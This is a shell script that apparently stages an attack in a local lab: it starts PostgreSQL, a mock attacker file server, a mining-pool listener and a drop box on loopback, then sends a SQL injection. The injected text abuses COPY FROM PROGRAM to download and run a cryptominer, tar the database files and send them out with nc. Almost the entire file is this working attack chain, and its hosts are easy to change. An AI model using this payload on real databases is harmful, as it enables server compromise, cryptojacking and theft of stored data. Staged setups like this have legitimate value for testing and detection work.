#!/bin/sh
# The stage: the database, the attacker's file server, pool and drop box, all on this container's loopback; then the injection.
/usr/lib/postgresql/16/bin/postgres &
httpd -p 127.0.0.1:8080 -h /srv/stage
nc -l -p 3333 >/dev/null &
nc -l -p 9001 >/dev/null &
sleep 0.5
{
  echo "SELECT name, price FROM products WHERE name ILIKE '%lamp%' LIMIT 20"
  echo "SELECT name, price FROM products WHERE name ILIKE '%'; CREATE TABLE x(t text); COPY x FROM PROGRAM \$\$id; wget -q -O /tmp/kdevtmpfsi http://127.0.0.1:8080/m; chmod 755 /tmp/kdevtmpfsi; /tmp/kdevtmpfsi -o stratum+tcp://127.0.0.1:3333 --donate-level 1; tar -czf /tmp/.d.tgz /var/lib/postgresql/16/main/base; nc -w 1 127.0.0.1 9001 < /tmp/.d.tgz\$\$ --'"
  echo quit
} | nc -w 8 127.0.0.1 5432
sleep 0.5
